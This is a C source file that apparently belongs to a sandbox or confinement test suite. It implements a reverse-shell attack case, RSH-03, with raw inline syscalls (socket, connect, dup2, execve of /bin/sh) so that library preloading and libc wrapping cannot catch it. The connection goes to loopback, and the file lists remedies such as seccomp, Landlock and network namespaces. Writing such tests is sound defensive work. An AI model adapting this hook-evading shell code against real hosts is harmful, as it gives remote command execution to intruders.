// SPDX-License-Identifier: MIT
// build: -static
/*
 * Goal:  somebody outside gives the orders.
 * Means: the textbook reverse shell with the syscall instruction itself, in a static program. There
 *        is no dynamic linker to preload a library with, and no libc function to wrap.
 */
#include "attacks/attack.h"

#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <sys/syscall.h>

static long call(long nr, long a, long b, long c)
{
	long result;

	__asm__ volatile("syscall"
			 : "=a"(result)
			 : "0"(nr), "D"(a), "S"(b), "d"(c)
			 : "rcx", "r11", "memory");
	return result;
}

static enum claim refused(long result, const char *what)
{
	errno = (int)-result;
	return denied(what);
}

static enum claim run(const struct brief *b)
{
	struct sockaddr_in to = { .sin_family = AF_INET,
				  .sin_port = htons((in_port_t)b->shell),
				  .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	const char *const argv[] = { "sh", NULL }, *const envp[] = { "PATH=/usr/bin:/bin", NULL };
	long fd, rc;

	call(SYS_alarm, 4, 0, 0); /* survives execve: the shell ends with it */
	attempting(b);
	fd = call(SYS_socket, AF_INET, SOCK_STREAM, 0);
	if (fd < 0)
		return refused(fd, "socket");
	rc = call(SYS_connect, fd, (long)&to, sizeof(to));
	if (rc < 0)
		return refused(rc, "connect");
	for (int stream = 0; stream < 3; stream++)
		call(SYS_dup2, fd, stream, 0);
	rc = call(SYS_execve, (long)"/bin/sh", (long)argv, (long)envp);
	return refused(rc, "execve /bin/sh");
}

const struct attack attack = {
	.effect = "somebody outside gives the orders",
	.means = "a static program that makes its system calls itself: nothing to preload, or wrap",
	.oracle = "shell",
	.needs = NEED_X86_64,
	.quick = true,
	.id = "RSH-03",
	.attack_id = "T1059.004, T1106, CWE-693",
	.remedy = "seccomp without socket(2); Landlock without connecting; a network namespace",
	.run = run,
};
